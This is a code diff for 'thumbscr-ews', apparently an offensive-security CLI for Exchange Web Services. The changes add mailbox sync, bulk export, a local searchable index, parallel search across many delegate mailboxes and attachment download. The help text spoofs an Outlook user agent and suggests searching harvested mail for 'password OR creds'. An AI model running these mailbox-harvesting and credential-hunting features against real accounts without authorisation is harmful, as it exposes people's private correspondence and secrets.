@@ -1,25 +1,213 @@
+import contextlib
+import functools
 import itertools
-import re
+import json
 import logging
 import os
-import string
+import sqlite3
+import sys
+import time
 from hashlib import md5
 
 import click
-import exchangelib
-import yaml as yamllib
-from exchangelib import Account, EWSDateTime, FolderCollection, Q, Message
-from exchangelib import FileAttachment, Account, discover, BaseProtocol, Credentials, Configuration, DELEGATE
-# from exchangelib import Credentials, Account
-# from exchangelib import Account, DistributionList
-# from exchangelib import discover, BaseProtocol
-from exchangelib.services import ResolveNames
-# This handler will pretty-print and syntax highlight the request and response XML documents
-from exchangelib.util import PrettyXmlHandler
 
+# exchangelib, yaml and the modules built on them are imported in the commands that
+# use them, so `version`, `yaml` and --help start without loading them. See
+# benchmarks/importtime.py.
 from thumbscrews.__init__ import __version__
+from thumbscrews.archive import FORMATS as ARCHIVE_FORMATS, archive_format, member_name, open_archive
+from thumbscrews.export import FORMATS as EXPORT_FORMATS, export_fields, get_writer
+from thumbscrews.index import INDEX_FIELDS, INDEX_PATH, MailIndex
+from thumbscrews.journal import Journal
+from thumbscrews.mailbox import ATTACHMENT_FIELDS, BUFFER_SIZE, HEADER_FIELDS, MANIFEST, READ_FIELDS, SYNC_PATH
+from thumbscrews.mailbox import address, fetch_items, project, read_ids, save_attachment, split_fields, store_blob
+from thumbscrews.mailbox import sync_key, sync_pages
+from thumbscrews.metrics import instrument, metrics
+from thumbscrews.store import JsonStore
 from thumbscrews.tbestate import tbestate
 
+# set once exchangelib has been set up for this process
+exchangelib_ready = False
+
+
+def setup_exchangelib():
+    """
+        Apply the global options that live on exchangelib classes.
+        Runs once, before the first command that talks to Exchange.
+        :return:
+    """
+
+    global exchangelib_ready
+    if exchangelib_ready:
+        return
+
+    from exchangelib import BaseProtocol
+    from exchangelib.util import PrettyXmlHandler
+
+    from thumbscrews.throttle import hold_pool_size
+
+    if metrics.enabled:
+        instrument()
+
+    if tbestate.verbose:
+        logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
+
+    BaseProtocol.USERAGENT = "thumbscr-ews/" + \
+                             __version__ + " (" + BaseProtocol.USERAGENT + ")"
+
+    if tbestate.user_agent:
+        BaseProtocol.USERAGENT = tbestate.user_agent
+
+    # busy servers are backed off from by the scheduler, see hold_pool_size
+    BaseProtocol.decrease_poolsize = hold_pool_size
+
+    exchangelib_ready = True
+
+
+def exchange_command(f):
+    """
+        Decorate a command that talks to Exchange, so exchangelib is only
+        loaded and set up when such a command actually runs.
+        :param f:
+        :return:
+    """
+
+    @functools.wraps(f)
+    def wrapper(*args, **kwargs):
+        setup_exchangelib()
+        return f(*args, **kwargs)
+
+    return wrapper
+
+
+def echo_lines(result):
+    """
+        Print the styled lines of a finished unit of work.
+        Each line is a (text, click.secho keyword arguments) pair.
+        :param result:
+        :return:
+    """
+
+    for text, style in result['lines']:
+        click.secho(text, **style)
+
+
+def delegate_failure(email, e):
+    """
+        Return the line delegatecheck prints for a mailbox it can not
+        access.
+        :param email:
+        :param e:
+        :return:
+    """
+
+    from exchangelib.errors import ErrorItemNotFound
+
+    if isinstance(e, ErrorItemNotFound):
+        return f'[-] {email} - Failure inbox not accessible', {'dim': True, 'fg': 'red'}
+
+    return f'[-] {email} - Failure {type(e).__name__}', {'dim': True, 'fg': 'red'}
+
+
+def start_engine(protocol, workers, auth_type=None):
+    """
+        Start the asyncio engine for a command run with --async.
+        Returns the runner driving its event loop and the engine.
+        :param protocol:
+        :param workers:
+        :param auth_type:
+        :return:
+    """
+
+    from thumbscrews.aio import AsyncEngine, AsyncRunner
+
+    try:
+        engine = AsyncEngine(protocol, workers, auth_type)
+    except (ImportError, ValueError) as e:
+        raise click.UsageError(str(e))
+
+    return AsyncRunner(), engine
+
+
+@contextlib.contextmanager
+def debug_logging():
+    """
+        Log everything, exchangelib's requests and responses as pretty
+        XML, until the block ends. The root logger is put back as it
+        was afterwards. Logging is process wide, so `run` does not let
+        its jobs ask for this.
+        :return:
+    """
+
+    from exchangelib.util import PrettyXmlHandler
+
+    root = logging.getLogger()
+    handler, level = PrettyXmlHandler(), root.level
+    handler.setFormatter(logging.Formatter(logging.BASIC_FORMAT))
+    root.addHandler(handler)
+    root.setLevel(logging.DEBUG)
+    try:
+        yield
+    finally:
+        root.removeHandler(handler)
+        root.setLevel(level)
+
+
+def fetch_mails(account, ids, fields, chunk_size=None):
+    """
+        Fetch mails by id in batches of chunk_size, printing the ids
+        that could not be fetched and yielding the rest.
+        :param account:
+        :param ids:
+        :param fields:
+        :param chunk_size:
+        :return:
+    """
+
+    fetched = missing = 0
+    for item_id, item in fetch_items(account, ids, fields, chunk_size):
+        if isinstance(item, Exception):
+            missing += 1
+            click.secho(f'[-] Could not fetch {item_id}: {item}', fg='red')
+            continue
+        fetched += 1
+        yield item
+
+    click.secho(f'[*] Fetched {fetched} mails, {missing} could not be fetched', fg='yellow', err=True)
+
+
+def echo_mail(item, html=False, headers_only=False):
+    """
+        Print a mail the way `mail read` does.
+        :param item:
+        :param html:
+        :param headers_only:
+        :return:
+    """
+
+    try:
+        click.secho(f'Subject: {item.subject}', fg='bright_blue', bold=True)
+        click.secho(f'Sender: {item.sender}', fg='bright_cyan')
+        click.secho(f'ReceivedBy: {item.received_by}', fg='cyan')
+        click.secho(f'ID: {item.id}\n', fg='bright_magenta')
+        # click.secho(f'{item.datetime_received}', fg='green', bold=True)
+        if headers_only:
+            click.secho(f'Received: {item.datetime_received} - Attachments: {item.has_attachments}\n',
+                        fg='white')
+        elif html:
+            click.secho(f'Body:\n\n{item.body}\n', fg='white')
+        else:
+            click.secho(f'Body:\n\n{item.text_body}\n', fg='white')
+        if item.has_attachments and not headers_only:
+            click.secho(f'Attachments:', fg='yellow', dim=True)
+            for attach in item.attachments:
+                click.secho(f'{attach.name} - {attach.content_type}', fg='bright_yellow', dim=True)
+    except Exception as e:
+        click.secho(
+            f'Not a Mail object, probably a meeting request. {e}', fg='red', dim=True)
+
+    click.secho(f'-------------------------------------\n', dim=True)
+
 
 @click.group()
 @click.option('--config', '-C', type=click.Path(exists=True), help='Path to an optional configuration file.')
@@ -33,7 +221,18 @@ from thumbscrews.tbestate import tbestate
 @click.option('--exch-host', help='If you dont want to try autodicover set the exchange host.')
 @click.option('--verbose', '-v', is_flag=True, help="Enables debugging information.")
 @click.option('--table-width', '-w', type=click.INT, help='The maximum width used for table output', default=120)
-def cli(config, username, password, dump_config, verbose, user_agent, outlook_agent, table_width, exch_host):
+@click.option('--cache/--no-cache', default=True, show_default=True,
+              help='Remember discovered endpoints and server versions between runs.')
+@click.option('--cache-ttl', type=click.INT,
+              help='Seconds before a cached endpoint is discovered again. Default is a day.')
+@click.option('--rate', type=click.FloatRange(min=0, min_open=True),
+              help='Most requests a second bulk commands send to a host. Default is as fast as the server allows.')
+@click.option('--stats', is_flag=True, default=None,
+              help='Print request counts, latency, bytes and retries per EWS operation when done.')
+@click.option('--stats-file', type=click.Path(dir_okay=False, writable=True),
+              help='Write the request statistics to this JSON file when done.')
+def cli(config, username, password, dump_config, verbose, user_agent, outlook_agent, table_width, exch_host,
+        cache, cache_ttl, rate, stats, stats_file):
     """
         \b
         thumsc-ews for Exchange Web Services
@@ -41,12 +240,6 @@ def cli(config, username, password, dump_config, verbose, user_agent, outlook_ag
     """
     # logging.basicConfig(level=logging.WARNING)
 
-    if verbose:
-        logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
-
-    BaseProtocol.USERAGENT = "thumbscr-ews/" + \
-                             __version__ + " (" + BaseProtocol.USERAGENT + ")"
-
     if outlook_agent and user_agent:
         click.secho(f'CANNOT USE TWO USERAGENTS AT ONCE!!!', fg='red')
         click.secho(
@@ -56,11 +249,10 @@ def cli(config, username, password, dump_config, verbose, user_agent, outlook_ag
     if outlook_agent:
         user_agent = "Microsoft Office/14.0 (Windows NT 6.1; Microsoft Outlook 14.0.7145; Pro)"
 
-    if user_agent:
-        BaseProtocol.USERAGENT = user_agent
-
     # set the mq configuration based on the configuration file
     if config is not None:
+        import yaml as yamllib
+
         with open(config) as f:
             config_data = yamllib.load(f, Loader=yamllib.FullLoader)
             tbestate.dictionary_updater(config_data)
@@ -68,6 +260,14 @@ def cli(config, username, password, dump_config, verbose, user_agent, outlook_ag
     # set configuration based on the flags this command got
     tbestate.dictionary_updater(locals())
 
+    if tbestate.stats or tbestate.stats_file:
+        metrics.start()
+        ctx = click.get_current_context()
+        if tbestate.stats:
+            ctx.call_on_close(metrics.echo)
+        if tbestate.stats_file:
+            ctx.call_on_close(functools.partial(metrics.write, tbestate.stats_file))
+
     # If we should be dumping configuration, do that.
     if dump_config:
         click.secho('Effective configuration for this run:', dim=True)
@@ -78,7 +278,7 @@ def cli(config, username, password, dump_config, verbose, user_agent, outlook_ag
         click.secho('-------------------------------------\n', dim=True)
 
 
-@cli.command(no_args_is_help=True)
+@cli.command()
 def version():
     """
         Prints the current thumbsc-ews version
@@ -103,6 +303,8 @@ def yaml(destination):
             click.secho('Not writing a new sample configuration file')
             return
 
+    import yaml as yamllib
+
     config = {
         'username': 'user@domain.com',
         'password': 'passw0rd',
@@ -127,17 +329,21 @@ def yaml(destination):
 
 @cli.command()
 @click.option('--verbose', '-v', is_flag=True, help='This gives more information from autodiscover.')
+@exchange_command
 def autodiscover(verbose):
     """
         Authenticate and go through autodiscover.
     """
 
+    import exchangelib
+    from exchangelib import Credentials, discover
+
     try:
         tbestate.validate(['username', 'password'])
         credentials = Credentials(tbestate.username, tbestate.password)
 
         if verbose:
-            logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
+            click.get_current_context().with_resource(debug_logging())
 
         primary_address, protocol = discover(tbestate.username, credentials=credentials)
 
@@ -159,6 +365,8 @@ def mail():
 
 @mail.command()
 @click.option('--id', help='Get the email with the corresponding ID')
+@click.option('--id-file', type=click.File('r'),
+              help='Get the emails with the IDs in this file, one per line. Use - for stdin.')
 @click.option('--search', '-s', help='Provide a query string based on: '
                                      'https://docs.microsoft.com/en-us/exchange/client-developer/web-service-reference/querystring-querystringtype.')
 @click.option('--html', is_flag=True, help='Retrieve the HTML version of mails, default is text.')
@@ -167,87 +375,371 @@ def mail():
 @click.option('--limit', '-l', type=click.INT, default=100,
               help='Limit the results returned to the most recent <amount>. Default 100')
 @click.option('--delegate', '-d', help='Read a different persons mailbox you have access to')
-def read(search, html, limit, folder, id, delegate):
+@click.option('--headers-only', is_flag=True, help='Only fetch and print the headers, get bodies later with --id.')
+@click.option('--page-size', type=click.IntRange(min=1), help='Number of items to list per request.')
+@click.option('--chunk-size', type=click.IntRange(min=1), help='Number of items to fetch per request.')
+@click.option('--index', 'index', is_flag=True, help='Also save fetched mails in the local index for `mail grep`.')
+@click.option('--index-file', type=click.Path(dir_okay=False), default=INDEX_PATH, show_default=True,
+              help='The local mail index.')
+@exchange_command
+def read(search, html, limit, folder, id, id_file, delegate, headers_only, page_size, chunk_size, index, index_file):
     """
         Search for mail in folder. Default Inbox.
         For printing mail in a nice manner.
         If you give it a folder without mail objects you may be sad.
         Check the objects command for just printing out what the library gives us.
+        Only the printed fields are fetched, use --headers-only to skip
+        bodies and attachments entirely.
+        With --id-file the mails are fetched --chunk-size at a time,
+        wherever in the mailbox they are, along with the --id if given.
     """
 
-    credentials = Credentials(tbestate.username, tbestate.password)
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
 
     if delegate:
         username = delegate
     else:
         username = tbestate.username
-    
-    try:
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(username, config=config, autodiscover=False, access_type=DELEGATE)
+
+    account = get_account(username)
+
+    if headers_only:
+        fields = HEADER_FIELDS
+    elif html:
+        fields = READ_FIELDS + ('body',)
+    else:
+        fields = READ_FIELDS + ('text_body',)
+    if index:
+        fields += tuple(f for f in INDEX_FIELDS if f not in fields)
+
+    if id_file:
+        # item ids are unique in the whole mailbox, no need to look up the folder
+        ids = itertools.chain([id] if id else [], read_ids(id_file))
+        mails = fetch_mails(account, ids, fields, chunk_size)
+    else:
+        if folder:
+            current_folder = get_hierarchy(account).glob(folder)
+        else:
+            current_folder = account.inbox
+
+        try:
+            query = project(current_folder.all(), fields, page_size, chunk_size)
+        except ValueError:
+            # not a mail folder, so fetch whatever the items have
+            query = project(current_folder.all(), None, page_size, chunk_size)
+
+        if search:
+            # mails = account.inbox.filter(Q(body__icontains=search) | Q(subject__icontains=search))
+            # mails = account.inbox.filter(Q(body__icontains=search))
+            mails = query.filter(search).order_by('-datetime_received')
         else:
-            account = Account(username, credentials=credentials, autodiscover=True, access_type=DELEGATE)
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except requests.exceptions.RequestException:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except urllib3.exceptions.NewConnectionError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
+            if id:
+                mails = [query.get(
+                    id=id)]
+            else:
+                mails = query.order_by('-datetime_received')[:limit]
+
+    mail_index = MailIndex(index_file) if index else None
+    try:
+        for item in mails:
+            echo_mail(item, html, headers_only)
+            if mail_index is not None:
+                # the folder of a mail fetched by id is not known, keep what the index has
+                mail_index.add(item, account.primary_smtp_address, None if id_file else folder or 'Inbox')
+    finally:
+        if mail_index is not None:
+            mail_index.close()
 
 
+@mail.command()
+@click.option('--html', is_flag=True, help='Retrieve the HTML version of mails, default is text.')
+@click.option('--folder', '-f',
+              help='Specify the folder to sync. Default is Inbox. eg: "Top of Information Store/Archive"')
+@click.option('--delegate', '-d', help='Read a different persons mailbox you have access to')
+@click.option('--headers-only', is_flag=True, help='Only fetch and print the headers of new and changed mails.')
+@click.option('--batch-size', type=click.IntRange(min=1, max=512), default=100, show_default=True,
+              help='Number of changes to fetch per request.')
+@click.option('--sync-file', type=click.Path(dir_okay=False), default=SYNC_PATH, show_default=True,
+              help='Where the sync state of each folder is kept.')
+@click.option('--reset', is_flag=True, help='Forget the stored sync state and start from scratch.')
+@click.option('--index', 'index', is_flag=True, help='Also save fetched mails in the local index for `mail grep`.')
+@click.option('--index-file', type=click.Path(dir_okay=False), default=INDEX_PATH, show_default=True,
+              help='The local mail index.')
+@exchange_command
+def sync(html, folder, delegate, headers_only, batch_size, sync_file, reset, index, index_file):
+    """
+        Print only what changed in a folder since the last sync.
+        The first sync of a folder returns everything in it, later runs
+        only return mails created, changed or deleted since then.
+    """
+
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
+
+    if delegate:
+        username = delegate
+    else:
+        username = tbestate.username
+
+    account = get_account(username)
+
     if folder:
-        # pylint: disable=maybe-no-member
-        current_folder = account.root.glob(folder)
+        sync_folders = get_hierarchy(account).glob(folder).folders
     else:
-        current_folder = account.inbox
+        sync_folders = [account.inbox]
 
-    if search:
-        # mails = account.inbox.filter(Q(body__icontains=search) | Q(subject__icontains=search))
-        # mails = account.inbox.filter(Q(body__icontains=search))
-        mails = current_folder.filter(search).order_by('-datetime_received')
+    if headers_only:
+        fields = HEADER_FIELDS
+    elif html:
+        fields = READ_FIELDS + ('body',)
     else:
-        if id:
-            mails = [current_folder.get(
-                id=id)]
-        else:
-            mails = current_folder.all().order_by('-datetime_received')[:limit]
+        fields = READ_FIELDS + ('text_body',)
+    if index:
+        fields += tuple(f for f in INDEX_FIELDS if f not in fields)
+
+    states = JsonStore(sync_file)
+    mail_index = MailIndex(index_file) if index else None
+
+    for current_folder in sync_folders:
+        key = sync_key(current_folder)
+        if reset:
+            states.put(key, None)
+        sync_state = states.get(key)
+
+        click.secho(f'[*] Syncing {current_folder.absolute}' + ('' if sync_state else ' from scratch'),
+                    fg='yellow', err=True)
 
-    for item in mails:
         try:
-            click.secho(f'Subject: {item.subject}', fg='bright_blue', bold=True)
-            click.secho(f'Sender: {item.sender}', fg='bright_cyan')
-            click.secho(f'ReceivedBy: {item.received_by}', fg='cyan')
-            click.secho(f'ID: {item.id}\n', fg='bright_magenta')
-            # click.secho(f'{item.datetime_received}', fg='green', bold=True)
-            if html:
-                click.secho(f'Body:\n\n{item.body}\n', fg='white')
+            pages = sync_pages(current_folder, sync_state, fields, batch_size)
+            changes, sync_state = next(pages)
+        except ValueError:
+            # not a mail folder, so fetch whatever the items have
+            pages = sync_pages(current_folder, sync_state, None, batch_size)
+            changes, sync_state = next(pages)
+
+        for changes, sync_state in itertools.chain([(changes, sync_state)], pages):
+            # a page the server could not answer comes back as an error instead of changes
+            errors = [c for c in changes if isinstance(c, Exception)]
+            for change_type, item in (c for c in changes if not isinstance(c, Exception)):
+                if change_type == 'delete':
+                    click.secho(f'[-] Deleted ID: {item.id}', fg='red', dim=True)
+                    if mail_index is not None:
+                        mail_index.remove(item.id)
+                elif change_type == 'read_flag_change':
+                    item_id, is_read = item
+                    click.secho(f'[*] Read flag changed ID: {item_id.id} - Read: {is_read}', dim=True)
+                else:
+                    click.secho(f'[+] {change_type.capitalize()}', fg='green')
+                    echo_mail(item, html, headers_only)
+                    if mail_index is not None:
+                        mail_index.add(item, account.primary_smtp_address, current_folder.absolute)
+            # only remember the state once its changes are out
+            if mail_index is not None:
+                mail_index.flush()
+            if errors:
+                # keep the last good state, the next sync picks up from there
+                for e in errors:
+                    click.secho(f'[-] Could not sync {current_folder.absolute}: {e}', fg='red', err=True)
+                click.secho('[*] Use --reset to start over if the stored sync state is no longer valid',
+                            fg='yellow', err=True)
+                break
+            states.put(key, sync_state)
+
+    if mail_index is not None:
+        mail_index.close()
+
+
+@mail.command()
+@click.argument('query')
+@click.option('--index-file', type=click.Path(dir_okay=False, exists=True), default=INDEX_PATH, show_default=True,
+              help='The local mail index to search.')
+@click.option('--delegate', '-d', help='Only search mails harvested from this mailbox.')
+@click.option('--limit', '-l', type=click.INT, default=100,
+              help='Limit the results returned to the best <amount> matches. Default 100')
+def grep(query, index_file, delegate, limit):
+    """
+        Search mails saved with --index, without talking to the server.
+        QUERY uses the SQLite FTS5 syntax, eg: 'password OR creds',
+        '"reset link"', 'subject:invoice' or 'attachments:xlsx'.
+    """
+
+    with MailIndex(index_file) as mail_index:
+        try:
+            for found in mail_index.search(query, limit, delegate):
+                click.secho(f'Subject: {found["subject"]}', fg='bright_blue', bold=True)
+                click.secho(f'Sender: {found["sender"]}', fg='bright_cyan')
+                click.secho(f'Mailbox: {found["mailbox"]} - Folder: {found["folder"]} - '
+                            f'Received: {found["received"]}', fg='cyan')
+                click.secho(f'ID: {found["id"]}\n', fg='bright_magenta')
+                click.secho(f'{found["snippet"]}\n', fg='white')
+                click.secho(f'-------------------------------------\n', dim=True)
+        except sqlite3.OperationalError as e:
+            raise click.BadParameter(str(e), param_hint='QUERY')
+
+
+@mail.command()
+@click.option('--format', '-F', 'fmt', type=click.Choice(EXPORT_FORMATS), default='jsonl', show_default=True,
+              help='jsonl and mbox write a single file, eml writes one md5(id).eml per mail into a directory.')
+@click.option('--output', '-o', type=click.Path(), required=True, help='The file or directory to export to.')
+@click.option('--folder', '-f', multiple=True,
+              help='Folder to export, can be repeated. Default is Inbox. eg: "Top of Information Store/Archive"')
+@click.option('--delegate', '-d', help='Export a different persons mailbox you have access to')
+@click.option('--limit', '-l', type=click.IntRange(min=1), help='Only export this many items per folder.')
+@click.option('--page-size', type=click.IntRange(min=1), help='Number of items to list per request.')
+@click.option('--chunk-size', type=click.IntRange(min=1), help='Number of items to fetch per request.')
+@click.option('--buffer-size', type=click.IntRange(min=1), default=BUFFER_SIZE, show_default=True,
+              help='Bytes to buffer before writing to disk.')
+@click.option('--append', is_flag=True, help='Add to an existing jsonl or mbox file rather than replacing it.')
+@exchange_command
+def export(fmt, output, folder, delegate, limit, page_size, chunk_size, buffer_size, append):
+    """
+        Export every mail in one or more folders to a file.
+        Items are fetched in batches and written out as they arrive,
+        so memory use stays flat however large the mailbox is.
+    """
+
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
+
+    if delegate:
+        username = delegate
+    else:
+        username = tbestate.username
+
+    account = get_account(username)
+    hierarchy = get_hierarchy(account) if folder else None
+    writer = get_writer(fmt, output, buffer_size, append)
+    fields = export_fields(fmt)
+    total = 0
+
+    try:
+        for name in folder or ('Inbox',):
+            current_folder = hierarchy.glob(name) if folder else account.inbox
+
+            try:
+                query = project(current_folder.all(), fields, page_size, chunk_size)
+            except ValueError:
+                # not a mail folder, so fetch whatever the items have
+                query = project(current_folder.all(), None, page_size, chunk_size)
+            if limit:
+                query = query[:limit]
+
+            count = 0
+            for item in query:
+                if isinstance(item, Exception):
+                    click.secho(f'[-] {name}: {item}', fg='red', dim=True, err=True)
+                    continue
+
+                writer.write(item, name)
+                count += 1
+                if count % 1000 == 0:
+                    click.secho(f'[*] {name}: {count} items exported', dim=True, err=True)
+
+            click.secho(f'[+] {name}: {count} items exported', fg='green', err=True)
+            total += count
+    finally:
+        writer.close()
+
+    click.secho(f'[+] Exported {total} items to {output}', fg='green', bold=True, err=True)
+
+
+@mail.command(no_args_is_help=True)
+@click.option('--email-list', '-e', type=click.Path(exists=True), required=True, help='File of mailboxes to search')
+@click.option('--search', '-s', help='Provide a query string based on: '
+                                     'https://docs.microsoft.com/en-us/exchange/client-developer/web-service-reference/querystring-querystringtype.')
+@click.option('--folder', '-f',
+              help='Specify the folder to search in. Default is Inbox. eg: "Top of Information Store/Archive"')
+@click.option('--limit', '-l', type=click.INT, default=100,
+              help='Limit the results returned to the most recent <amount> per mailbox. Default 100')
+@click.option('--json', 'as_json', is_flag=True, help='Print every match as a JSON object on its own line.')
+@click.option('--state-file', type=click.Path(dir_okay=False),
+              help='Journal of searched mailboxes. Rerun with the same file to resume an interrupted search.')
+@click.option('--workers', type=click.IntRange(min=1), default=1, show_default=True,
+              help='Number of mailboxes to search in parallel.')
+@exchange_command
+def search(email_list, search, folder, limit, as_json, state_file, workers):
+    """
+        Search the same folder in many mailboxes you have access to.
+        Every mailbox shares one connection pool, with --workers several
+        are searched at once and matches are printed tagged with their
+        mailbox as each one finishes.
+    """
+
+    import exchangelib
+    from exchangelib import Account, DELEGATE
+    from exchangelib.folders import Inbox
+
+    from thumbscrews.connect import get_shared_config
+    from thumbscrews.folders import distinguished, mailbox_hierarchy, seed_root
+    from thumbscrews.pool import imap_bounded
+    from thumbscrews.throttle import BUSY_ERRORS, get_scheduler
+
+    config = get_shared_config(max_connections=workers)
+
+    def search_mailbox(email):
+        lines = []
+        try:
+            delegate_account = seed_root(Account(primary_smtp_address=email, config=config,
+                                                 autodiscover=False, access_type=DELEGATE))
+            # account.inbox would hold a lock shared by every mailbox's thread
+            if folder:
+                current_folder = mailbox_hierarchy(delegate_account).glob(folder)
             else:
-                click.secho(f'Body:\n\n{item.text_body}\n', fg='white')
-            if item.has_attachments:
-                click.secho(f'Attachments:', fg='yellow', dim=True)
-                for attach in item.attachments:
-                    click.secho(f'{attach.name} - {attach.content_type}', fg='bright_yellow', dim=True)
-        except Exception as e:
-            click.secho(
-                f'Not a Mail object, probably a meeting request. {e}', fg='red', dim=True)
+                current_folder = distinguished(delegate_account, Inbox)
+
+            try:
+                query = project(current_folder.all(), HEADER_FIELDS)
+            except ValueError:
+                query = current_folder.all()
+            if search:
+                query = query.filter(search)
+
+            for item in query.order_by('-datetime_received')[:limit]:
+                if isinstance(item, Exception):
+                    continue
+                found = {
+                    'mailbox': email,
+                    'id': item.id,
+                    'received': item.datetime_received.isoformat() if item.datetime_received else None,
+                    'sender': address(getattr(item, 'sender', None)),
+                    'subject': item.subject,
+                    'has_attachments': item.has_attachments,
+                }
+                if as_json:
+                    lines.append((json.dumps(found), {}))
+                else:
+                    lines.append((f'[+] {email} - {found["received"]} - {found["sender"]} - {found["subject"]} - '
+                                  f'ID: {found["id"]}', {'fg': 'green'}))
 
-        click.secho(f'-------------------------------------\n', dim=True)
+            if not lines and not as_json:
+                lines.append((f'[-] {email} - No matches', {'dim': True}))
+        except (exchangelib.errors.ErrorItemNotFound, exchangelib.errors.ErrorNonExistentMailbox,
+                exchangelib.errors.ErrorAccessDenied, exchangelib.errors.ErrorImpersonateUserDenied) as e:
+            lines.append((f'[-] {email} - Failure {type(e).__name__}', {'dim': True, 'fg': 'red', 'err': as_json}))
+        except BUSY_ERRORS:
+            # left to the scheduler to back off and retry
+            raise
+        except exchangelib.errors.EWSError as e:
+            # worth another go when resuming
+            return {'lines': [(f'[-] {email} - Error {e}', {'fg': 'red', 'err': as_json})], 'transient': True}
+
+        return {'lines': lines}
+
+    with open(email_list, "r") as emails, Journal(state_file, f'search:{folder}:{search}:{limit}') as journal:
+        if len(journal):
+            click.secho(f'[*] Resuming, {len(journal)} mailboxes already searched', fg='yellow', err=True)
+
+        mailboxes = (e.strip() for e in emails if e.strip())
+        scheduler = get_scheduler(workers, config.service_endpoint)
+        for email, result in imap_bounded(journal.wrap(search_mailbox), mailboxes, workers, scheduler):
+            echo_lines(result)
 
 
 @mail.command()
 @click.option('--id', help='Get the email attachments with the corrisponding ID. Saved as md5(id)-attachmentname.')
+@click.option('--id-file', type=click.File('r'),
+              help='Get the attachments of the emails with the IDs in this file, one per line. Use - for stdin.')
 @click.option('--search', '-s', help='Provide a query string based on: '
                                      'https://docs.microsoft.com/en-us/exchange/client-developer/web-service-reference/querystring-querystringtype.')
 @click.option('--path', type=click.Path(), help='Where to save your attachments. Default is current directory')
@@ -256,134 +748,165 @@ def read(search, html, limit, folder, id, delegate):
 @click.option('--limit', '-l', type=click.INT, default=100,
               help='Limit the results returned to the most recent <amount>. Default 100')
 @click.option('--delegate', '-d', help='Read a different persons mailbox you have access to')
-def getattachments(id, folder, path, search, limit, delegate):
+@click.option('--workers', type=click.IntRange(min=1), default=1, show_default=True,
+              help='Number of mails to download attachments from in parallel.')
+@click.option('--dedup', is_flag=True,
+              help='Store each distinct attachment once, by content hash, with a manifest of where it was found.')
+@click.option('--chunk-size', type=click.IntRange(min=1), help='Number of items to fetch per request.')
+@click.option('--archive', type=click.Path(dir_okay=False),
+              help='Stream the attachments into this .zip or .tar file instead of loose files under --path.')
+@click.option('--compress', is_flag=True, help='Deflate the attachments in a --archive zip.')
+@exchange_command
+def getattachments(id, id_file, folder, path, search, limit, delegate, workers, dedup, chunk_size, archive,
+                   compress):
     """
         Download all the attachments from a Mail
+        With --dedup every distinct file is stored once under blobs/,
+        named by its sha256, and manifest.jsonl maps mails to blobs.
+        With --id-file the mails are fetched --chunk-size at a time,
+        along with the --id if given.
+        With --archive they are streamed into a single zip or tar, as
+        md5(id)-attachmentname members.
     """
 
-    credentials = Credentials(
-        tbestate.username, tbestate.password)
+    if archive and archive_format(archive) is None:
+        raise click.BadParameter(f'must end in one of: {", ".join("." + f for f in ARCHIVE_FORMATS)}',
+                                 param_hint='--archive')
+    if archive and dedup:
+        raise click.UsageError('--dedup stores loose blobs, it can not be used with --archive')
+    if compress and archive_format(archive or '') != 'zip':
+        raise click.UsageError('--compress only applies to a .zip --archive, tar members need their size '
+                               'before their content')
+
+    from exchangelib import FileAttachment
+
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
+    from thumbscrews.pool import imap_bounded
+    from thumbscrews.throttle import BUSY_ERRORS, get_scheduler
 
     if delegate:
         username = delegate
     else:
         username = tbestate.username
 
-    try:
-
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(username,
-                              config=config, autodiscover=False, access_type=DELEGATE)
-        else:
-            account = Account(username, credentials=credentials, autodiscover=True, access_type=DELEGATE)
-
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except requests.exceptions.RequestException:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except urllib3.exceptions.NewConnectionError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
+    account = get_account(username, max_connections=workers)
 
-    if folder:
-        # pylint: disable=maybe-no-member
-        current_folder = account.root.glob(folder)
+    if id_file:
+        ids = itertools.chain([id] if id else [], read_ids(id_file))
+        mails = fetch_mails(account, ids, ATTACHMENT_FIELDS, chunk_size)
     else:
-        current_folder = account.inbox
+        if folder:
+            current_folder = get_hierarchy(account).glob(folder)
+        else:
+            current_folder = account.inbox
 
-    if search:
-        # mails = account.inbox.filter(Q(body__icontains=search) | Q(subject__icontains=search))
-        # mails = account.inbox.filter(Q(body__icontains=search))
-        mails = current_folder.filter(search).order_by('-datetime_received')
-    else:
-        if id:
-            mails = [current_folder.get(id=id)]
+        try:
+            query = project(current_folder.all(), ATTACHMENT_FIELDS, chunk_size=chunk_size)
+        except ValueError:
+            # not a mail folder, so fetch whatever the items have
+            query = project(current_folder.all(), chunk_size=chunk_size)
+
+        if search:
+            # mails = account.inbox.filter(Q(body__icontains=search) | Q(subject__icontains=search))
+            # mails = account.inbox.filter(Q(body__icontains=search))
+            mails = query.filter(search).order_by('-datetime_received')
         else:
-            mails = current_folder.all().order_by('-datetime_received')[:limit]
+            if id:
+                mails = [query.get(id=id)]
+            else:
